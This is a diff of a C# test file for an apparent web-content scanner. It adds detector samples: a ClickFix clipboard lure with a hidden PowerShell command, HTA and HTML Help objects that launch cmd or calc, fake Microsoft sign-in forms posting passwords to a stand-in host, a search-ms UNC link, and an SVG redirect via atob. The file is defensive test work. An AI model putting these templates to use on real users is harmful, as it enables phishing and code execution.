@@ -48,17 +48,32 @@ public sealed class WebStageTests
             $"WebAssembly.instantiate(b('AGFzbQEAAAA{new string('A', 60)}'));", "WebAssembly.instantiateStreaming(fetch('a.wasm'));",
             "var t='AGFzbQEAAAA is the start of WebAssembly in base64';", $"var d='{new string('B', 60)}';"),
         Page(WebHeuristics.ClickFix,
-            "<p>Verify: press Windows + R, then Ctrl + V and Enter</p><script>navigator.clipboard.writeText(c)</script>",
-            "<p>Paste it where you like</p><script>navigator.clipboard.writeText(c)</script>", "<p>Press Windows + R, type notepad, press Enter</p>",
+            "<p>Verify: press Windows + R, then Ctrl + V and Enter</p><script>var c='powershell -w hidden -c calc';navigator.clipboard.writeText(c)</script>",
+            "<p>Press Windows + R, then Ctrl + V</p><script>navigator.clipboard.writeText(location.href)</script>", "<p>Paste it where you like</p><script>navigator.clipboard.writeText(c)</script>", "<p>Press Windows + R, type notepad, press Enter</p>",
             "<pre>powershell -File build.ps1</pre><script>navigator.clipboard.writeText(pre.innerText)</script>"),
         new(WebHeuristics.HtaExec,
             new("a.hta", "<html><head><hta:application id=x></head><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>"),
             new("a.hta", "<html><head><hta:application id=x></head><script>alert(1)</script></html>"),
             new("a.html", "<html><p>new ActiveXObject('WScript.Shell') runs in an HTML application only</p></html>"),
             new("a.html", "<html><script>// WScript.Shell is not to be had here</script></html>")),
+        Page(WebHeuristics.CredentialBrand,
+            "<title>Microsoft sign in</title><form action='https://collect.invalid/p'><input type=password></form>",
+            "<title>Microsoft sign in</title><form action='/login'><input type=password></form>", "<title>Our forum</title><form action='https://collect.invalid/p'><input type=password></form>",
+            "<title>Microsoft sign in</title><form action='http://192.168.1.1/login.cgi'><input type=password></form>"),
+        new(WebHeuristics.CredentialMailed, Mailed("<form action='https://collect.invalid/p'><input type=password></form>"), Mailed("<form action='/login'><input type=password></form>"),
+            Mailed("<form action='https://host.invalid/q'><input type=text></form>"), new("a.html", "<html><form action='https://collect.invalid/p'><input type=password></form></html>")),
+        Page(WebHeuristics.ForeignFolder,
+            "<a href='search-ms:query=x&crumb=location:\\\\192.0.2.1\\share'>open</a>", "<a href='search-ms:query=x&crumb=kind:document'>open</a>", "<a href='https://host.invalid/?crumb=location:home'>x</a>", "<p>search-ms: opens a search</p>"),
+        new(WebHeuristics.HiddenRedirect, new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>window.location.href=p+atob('Ly9ob3N0')</script></svg>"),
+            new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>window.location.href='page2.svg'</script></svg>"), new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>var t=atob('eA==');show(t)</script></svg>"),
+            new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><a href='https://host.invalid/'><text>atob</text></a></svg>")),
+        Page(WebHeuristics.HelpShortcut,
+            "<object classid='clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11'><param name='Command' value='ShortCut'><param name='Item1' value=',cmd.exe,/c calc'></object>",
+            "<object classid='clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11'><param name='Command' value='Related Topics'></object>", "<object classid='clsid:1e2a7bd0-dab9-11d0-b93a-00c04fc99f9e'><param name='Item1' value=',cmd.exe'></object>", "<p>cmd.exe,/c calc</p>"),
         new(WebHeuristics.SvgScript,
             new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>location='https://x.invalid/'</script></svg>"),
             new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"),
+            new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>function s(n){details.nodeValue='Function: '+n;}</script><g onmouseover='s(1)'/></svg>"),
             new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><div>Label</div></foreignObject></svg>"),
             new("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><style>script{}</style><text>script</text></svg>")),
     ];
@@ -83,6 +98,8 @@ public sealed class WebStageTests
         outcome.Artifacts.Skip(1).Where(artifact => artifact.Origin == "html").Select(artifact => (artifact.Relation, artifact.Name))
             .Should().Equal(("script", "script-1.js"), ("embedded", "data-2.png"), ("decoded", "carried-3.exe"));
     }
+
+    private static SampleFile Mailed(string body) => new("a.eml", TestKit.HeldOut.Second.MailForms.Message("a@one.invalid", "Hello", "text/plain", "Hello", ("a.html", System.Text.Encoding.UTF8.GetBytes($"<!DOCTYPE html><html><body>{body}</body></html>"))));
 
     private static HeuristicCase Script(Heuristic heuristic, string positive, params string[] negatives) =>
         Page(heuristic, $"<script>{positive}</script>", [.. negatives.Select(code => $"<script>{code}</script>")]);
